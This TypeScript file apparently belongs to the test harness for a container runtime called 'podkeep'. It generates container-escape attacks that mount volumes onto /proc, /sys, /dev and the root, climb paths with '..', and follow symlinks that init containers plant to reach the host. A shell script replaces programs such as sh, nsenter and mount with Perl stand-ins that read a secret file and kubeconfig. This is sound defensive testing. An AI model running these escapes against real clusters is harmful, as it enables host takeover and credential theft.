/**
 * Mount paths that lead somewhere else: below /proc, up from the root, and through links that another
 * container of the pod has put into a volume. A runtime that creates a mount point there as root creates
 * it on the machine, and a volume that is mounted there covers files of the machine.
 */
import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { podAttack, WAIT, type PodAttack } from '../harness/pod-attack.ts';
import { shellContainer, type PodShape } from '../harness/pods.ts';
import type { Target } from '../harness/target.ts';
import type { Attack } from '../harness/types.ts';

const KIND = 'mount-targets';
export const MOUNT_REFUSAL =
  /mount|path|not permitted|denied|link|invalid|must|outside|no such|not a dir|exists|read-only/i;

/** Its name shows which attack has created it. */
const madeBy = (id: string): string => `made-${id}`;

/** A mount of the machine that a pod has caused outside of podkeep's folder. */
export function strayMountOf(folder: string, podUid: string): string | undefined {
  const stray = readFileSync('/proc/self/mountinfo', 'utf8')
    .split('\n')
    .filter((line) => line.includes(podUid))
    .map((line) => line.split(' ')[4] ?? '')
    .find((point) => !point.startsWith(folder) && !point.startsWith('/run/podkeep'));
  return stray === undefined ? undefined : `${stray} was mounted on the machine`;
}

/** Such mounts, and folders that it created. */
function traceOf(id: string): NonNullable<PodAttack['check']> {
  return ({ canaries, folder }, { uid }) => {
    const made = path.join(canaries.home, madeBy(id));
    if (existsSync(made)) return `${made} was made on the machine`;
    return strayMountOf(folder, uid);
  };
}

/**
 * Links to the mark, under names that programs on the way into a container may write to when the volume
 * replaces /proc, /sys or /dev.
 */
const PLANT_LINKS = `
mkdir -p /w/self/attr /w/self/fd /w/thread-self/attr /w/1/attr /w/attr /w/sys/kernel /w/pts /w/kernel
for name in self/oom_score_adj self/attr/exec self/attr/current self/uid_map self/gid_map self/setgroups \
  thread-self/attr/exec 1/attr/exec attr/exec oom_score_adj uid_map setgroups sysrq-trigger \
  sys/kernel/hostname kernel/hostname cgroup.procs null tty ptmx pts/ptmx pts/0 console stdout fd/1 \
  termination-log; do ln -s "$MARK" /w/$name 2>/dev/null; done; true
`;

/** What podkeep does in the container, with and without a terminal. */
const enter: NonNullable<PodAttack['drive']> = async (target, { name }) => {
  const request = { pod: name, container: 'main', command: ['/bin/echo', 'entered'] };
  const plain = await target.exec({ ...request, seconds: 4 });
  const terminal = await target.exec({ ...request, tty: true, stdin: '', seconds: 4 });
  return plain.output + terminal.output;
};

/** A volume on a path of /proc shows the links that were planted in it. */
const COVERED = (at: string): string =>
  /^\/proc(?:$|\/(?:self|1|sys)(?:\/(?:attr|fd))?$)/.test(at)
    ? `[ -L ${at}/null ] && echo "SUCCEEDED: a volume covers ${at}"; `
    : '';

function mountAttack(
  id: string,
  pathOf: (home: string) => string,
  more: (target: Target) => PodShape = () => ({}),
): Attack {
  return podAttack({
    class: KIND,
    id,
    tries: `A volume with links is mounted on ${pathOf('HOME').replace('made', madeBy('ID'))}.`,
    pod: (target) => {
      const mountPath = pathOf(target.canaries.home).replace(/made$/, madeBy(id));
      const shape = more(target);
      const planted = { volumeMounts: [{ name: 'other', mountPath: '/w' }] };
      return {
        ...shape,
        inits: [...(shape.inits ?? []), shellContainer('links', PLANT_LINKS, planted)],
        container: { volumeMounts: [{ name: 'other', mountPath }] },
        spec: { volumes: [{ name: 'other', emptyDir: {} }] },
      };
    },
    script: `${COVERED(pathOf('/'))}${WAIT}`,
    drive: enter,
    check: traceOf(id),
    mayRefuse: MOUNT_REFUSAL,
    seconds: 6,
  });
}

const DIRECT: Readonly<Record<string, (home: string) => string>> = {
  proc: () => '/proc',
  'proc-self': () => '/proc/self',
  'proc-1': () => '/proc/1',
  'proc-sys': () => '/proc/sys',
  'proc-self-attr': () => '/proc/self/attr',
  'proc-fd': () => '/proc/self/fd',
  'proc-self-root': (home) => `/proc/self/root${home}/made`,
  'proc-1-root': (home) => `/proc/1/root${home}/made`,
  'proc-self-cwd': (home) => `/proc/self/cwd${home}/made`,
  'proc-thread-root': (home) => `/proc/thread-self/root${home}/made`,
  sys: () => '/sys',
  'sys-kernel': () => '/sys/kernel',
  'sys-fs-cgroup': () => '/sys/fs/cgroup',
  dev: () => '/dev',
  'dev-pts': () => '/dev/pts',
  'dev-fd': () => '/dev/fd/made',
  root: () => '/',
  'dots-up': (home) => `/../../..${home}/made`,
  'dots-inside': (home) => `/tmp/../../..${home}/made`,
};

/** Where the link in the volume leads. */
const LINKS: Readonly<Record<string, (home: string) => string>> = {
  absolute: (home) => home,
  relative: (home) => `../../../../../../../../../../../../../../../..${home}`,
  'self-root': (home) => `/proc/self/root${home}`,
  'self-cwd': (home) => `/proc/self/cwd${home}`,
  'init-root': (home) => `/proc/1/root${home}`,
};

const linked =
  (to: (home: string) => string) =>
  ({ canaries }: Target): PodShape => ({
    volumes: { shared: '/v' },
    inits: [shellContainer('plant', `ln -s ${to(canaries.home)} /v/link; ln -s link /v/chain`)],
  });

/** Perl, under the names of the programs by which podkeep might enter a container. */
const PLANT_TOOLS = `
cp "$(command -v perl)" /w/perl; chmod 755 /w/perl
for name in sh unshare setpriv nsenter env script chroot stty mount cp; do
  cat >/w/$name <<END
#!/usr/bin/perl
print "ran:\\$ENV{NONCE}:\\$<\n";
for my \\$f ("$SECRET_FILE", "$DATA/kubeconfig") { open(my \\$h, '<', \\$f) and print <\\$h> }
if (open(my \\$m, '>>', "$MARK")) { print \\$m "changed" }
END
  chmod 755 /w/$name
done
`;

function toolsAttack(id: string, mountPath: string, link?: string): Attack {
  return podAttack({
    class: KIND,
    id: `tools-${id}`,
    tries: `A volume with planted programs is mounted on ${mountPath}, and a command is run.`,
    pod: {
      volumes: { shared: '/v' },
      spec: { volumes: [{ name: 'planted', emptyDir: {} }] },
      container: { volumeMounts: [{ name: 'planted', mountPath }] },
      inits: [
        shellContainer('plant', `${link ? `ln -s ${link} /v/link;` : ''} ${PLANT_TOOLS}`, {
          volumeMounts: [{ name: 'planted', mountPath: '/w' }],
        }),
      ],
    },
    script: WAIT,
    drive: enter,
    mayRefuse: MOUNT_REFUSAL,
    seconds: 8,
  });
}

export const MOUNT_TARGETS: readonly Attack[] = [
  ...Object.entries(DIRECT).map(([id, pathOf]) => mountAttack(id, pathOf)),
  ...Object.entries(LINKS).flatMap(([id, to]) => [
    mountAttack(`link-${id}`, () => '/v/link/made', linked(to)),
    mountAttack(`link-${id}-itself`, () => '/v/link', linked(to)),
    mountAttack(`chain-${id}`, () => '/v/chain/made', linked(to)),
  ]),
  toolsAttack('self-root', '/proc/self/root/usr/bin'),
  toolsAttack('init-root', '/proc/1/root/usr/bin'),
  toolsAttack('self-cwd', '/proc/self/cwd/usr/bin'),
  toolsAttack('link', '/v/link', '/usr/bin'),
  toolsAttack('link-self-root', '/v/link', '/proc/self/root/usr/bin'),
  toolsAttack('link-self-cwd', '/v/link', '/proc/self/cwd/usr/bin'),
  toolsAttack('link-up', '/v/link/usr/bin', '../../../../../../../../../../../../../../../..'),
];
